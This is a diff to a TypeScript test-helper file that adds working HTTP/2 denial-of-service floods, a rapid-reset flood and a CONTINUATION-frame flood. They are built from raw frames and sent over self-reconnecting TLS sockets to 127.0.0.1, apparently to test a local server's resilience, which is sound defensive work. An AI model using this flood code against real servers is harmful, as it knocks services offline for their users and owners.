@@ -127,3 +127,56 @@ export async function openWebSocket(ports: Ports): Promise<Socket> {
   if (!first.startsWith('HTTP/1.1 101')) throw new Error(`no WebSocket: ${first.slice(0, 200)}`);
   return socket;
 }
+
+export const FLOODS = ['rapid resets', 'endless fields'] as const;
+
+const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
+const [HEADERS, RST_STREAM, SETTINGS, CONTINUATION] = [1, 3, 4, 9];
+
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+function floodOf(kind: (typeof FLOODS)[number]): Buffer {
+  // GET https://HOST/ in the static table of HPACK (RFC 7541 §A).
+  const request = Buffer.concat([Buffer.of(0x82, 0x87, 0x84, 0x41, HOST.length), Buffer.from(HOST)]);
+  const field = Buffer.concat([Buffer.of(0, 1, 0x61, 100), Buffer.alloc(100, 0x62)]);
+  const frames =
+    kind === 'rapid resets'
+      ? Array.from({ length: 1000 }, (_, i) => [
+          frame(HEADERS, 5, 2 * i + 1, request),
+          frame(RST_STREAM, 0, 2 * i + 1, Buffer.of(0, 0, 0, 8)),
+        ]).flat()
+      : [frame(HEADERS, 0, 1, request), ...Array.from({ length: 5000 }, () => frame(CONTINUATION, 0, 1, field))];
+  return Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0)), ...frames]);
+}
+
+/** Clients that flood, and connect again when their connection was ended. Call the returned function to end them. */
+export function startFlood({ https }: Ports, kind: (typeof FLOODS)[number], count: number): () => void {
+  const octets = floodOf(kind);
+  const sockets = new Set<TLSSocket>();
+  let isOver = false;
+  const begin = (): void => {
+    if (isOver) return;
+    const to = { host: '127.0.0.1', port: https, servername: HOST, rejectUnauthorized: false, ALPNProtocols: ['h2'] };
+    const socket = connectTls(to);
+    sockets.add(socket);
+    socket.on('error', () => {});
+    socket.once('secureConnect', () => socket.write(octets));
+    socket.resume();
+    socket.once('close', () => {
+      sockets.delete(socket);
+      setTimeout(begin, 1);
+    });
+  };
+  for (let i = 0; i < count; i++) begin();
+  return () => {
+    isOver = true;
+    for (const socket of sockets) socket.destroy();
+  };
+}
